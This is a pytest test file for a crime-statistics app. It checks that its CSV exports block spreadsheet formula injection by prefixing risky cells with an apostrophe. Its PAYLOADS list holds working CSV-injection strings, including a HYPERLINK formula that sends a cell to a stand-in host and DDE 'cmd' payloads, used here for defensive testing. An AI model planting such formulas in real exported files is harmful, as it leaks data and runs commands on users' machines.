"""CSV exports never hand a spreadsheet a formula: a text cell starting with = + - @, a tab or
a carriage return gets a leading apostrophe; numbers stay numbers (issue 16, item 13)."""

import csv
import io

import pytest

from beatbridge.areas.models import Area
from beatbridge.core.csv_export import safe_cell
from beatbridge.data.models import Incident, OffenseCategory

from .helpers import HILLTOP, RIVERSIDE, days_ago, import_rows

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
EXPORTS = [
    "/data/incidents.csv",
    "/data/stats/city/categories.csv",
    "/data/stats/city/areas.csv",
    "/data/stats/city/monthly.csv",
    "/data/stats/city/heat.csv",
    "/data/stats/neighborhood/1/categories.csv",
    "/data/stats/beat/0111/categories.csv",
]


@pytest.fixture
def hostile(city, tmp_path):
    """Text from the source file and from administrators that looks like formulas."""
    import_rows(
        tmp_path,
        [
            (f"p{n}", days_ago(n + 1), "ASSAULT" if n % 2 else "BURGLARY", RIVERSIDE)
            for n in range(len(PAYLOADS))
        ]
        # more assaults in the same weeks last year: a negative change in the tables
        + [(f"h{k}", days_ago(366 + k), "ASSAULT", HILLTOP) for k in range(5)],
    )
    for incident, payload in zip(
        Incident.objects.filter(source_id__startswith="p").order_by("source_id"),
        PAYLOADS,
        strict=True,
    ):
        Incident.objects.filter(pk=incident.pk).update(premise=payload)
    OffenseCategory.objects.filter(code="13A").update(name_en=PAYLOADS[0])
    OffenseCategory.objects.filter(code="220").update(name_en=PAYLOADS[3])
    Area.objects.filter(pk=city["riverside"].pk).update(name=PAYLOADS[1])
    Area.objects.filter(pk=city["hilltop"].pk).update(name=PAYLOADS[2])


def _rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("url", EXPORTS)
def test_no_cell_of_any_export_starts_a_formula(hostile, client, url):
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = _rows(response)
    assert len(rows) > 1  # a header and data: the check below must not run over nothing
    for row in rows:
        for cell in row:
            if cell[:1] == "-" and _is_number(cell):
                continue  # a negative number (a change, a longitude) is no formula
            assert cell[:1] not in {"=", "+", "-", "@", "\t", "\r"}, (url, cell)


def test_the_hostile_text_is_kept_behind_an_apostrophe(hostile, client):
    premises = {row[10] for row in _rows(client.get("/data/incidents.csv"))[1:]}
    assert premises >= {"'" + p for p in PAYLOADS}
    names = {row[1] for row in _rows(client.get("/data/stats/city/categories.csv"))}
    assert "'" + PAYLOADS[0] in names and "'" + PAYLOADS[3] in names
    areas = {row[1] for row in _rows(client.get("/data/stats/city/areas.csv"))}
    assert {"'" + PAYLOADS[1], "'" + PAYLOADS[2]} <= areas


def test_numbers_stay_numbers(hostile, client):
    rows = _rows(client.get("/data/incidents.csv"))
    lon = rows[1][rows[0].index("lon_generalized")]
    assert lon.startswith("-87.") and _is_number(lon)  # not '-87.…
    changes = [r[4] for r in _rows(client.get("/data/stats/city/categories.csv"))[1:]]
    assert any(c.startswith("-") and _is_number(c) for c in changes)  # 3 vs 5 assaults: -40.0


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),  # text, not a number: could be "-1+cmd|…"
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        ("", ""),
        (-87.5, -87.5),
        (-3, -3),
        (None, None),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected
